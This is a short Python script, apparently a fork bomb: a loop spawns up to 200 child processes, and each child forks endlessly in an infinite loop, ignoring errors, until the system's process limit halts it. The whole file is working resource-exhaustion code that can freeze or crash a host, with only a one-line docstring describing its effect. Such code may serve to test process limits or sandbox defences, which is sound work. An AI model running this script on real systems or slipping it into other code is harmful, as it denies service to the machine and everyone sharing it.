"""Forks as often as it can; only the limit on processes stops it."""

import os

for _ in range(200):
    try:
        if not os.fork():
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        break
